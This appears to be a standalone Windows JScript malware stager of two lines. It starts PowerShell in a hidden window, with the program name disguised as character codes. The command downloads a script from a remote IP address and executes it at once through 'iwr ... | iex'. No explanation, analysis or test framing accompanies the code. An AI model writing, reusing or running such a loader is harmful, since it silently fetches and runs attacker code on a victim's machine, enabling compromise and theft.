var s = new ActiveXObject("WScript.Shell");
s.Run(String.fromCharCode(112,111,119,101,114,115,104,101,108,108) + " -w hidden -c \"iwr http://198.51.100.90/m.ps1 | iex\"", 0);
